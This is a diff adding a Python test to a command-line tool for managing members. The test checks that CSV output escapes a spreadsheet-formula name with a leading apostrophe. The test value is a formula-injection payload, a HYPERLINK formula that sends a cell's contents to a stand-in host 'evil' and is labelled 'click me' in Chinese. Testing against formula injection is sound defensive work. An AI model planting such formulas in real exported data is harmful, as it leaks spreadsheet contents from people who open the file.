@@ -91,6 +91,17 @@ def test_member_add_show_list(cli) -> None:  # type: ignore[no-untyped-def]
     assert [m["code"] for m in members_json(cli)] == ["YJ"]
 
 
+def test_csv_output_shows_formula_like_names_as_text(cli) -> None:  # type: ignore[no-untyped-def]
+    name = '=HYPERLINK("http://evil/?"&A1,"点我")'
+    r = cli("member", "add", "-a", "nb", "--code", "YJ", "--name", name, "--credit-code", credit_code(1),
+            "--revenue", "12.50")
+    assert r.exit_code == 0, r.output
+    header, row = list(csv.reader(io.StringIO(cli("member", "list", "-a", "nb", "-f", "csv").stdout)))
+    assert row[header.index("name")] == "'" + name
+    header, row = list(csv.reader(io.StringIO(cli("member", "show", "YJ", "-a", "nb", "-f", "csv").stdout)))
+    assert row[header.index("name")] == "'" + name and row[header.index("revenue")] == "12.50"
+
+
 def test_member_add_bad_values_exit_2_and_add_nothing(cli) -> None:  # type: ignore[no-untyped-def]
     r = cli("member", "add", "-a", "nb", "--code", "YJ", "--name", "甲", "--credit-code", "91330200MA2H1234X",
             "--revenue", "1.234")
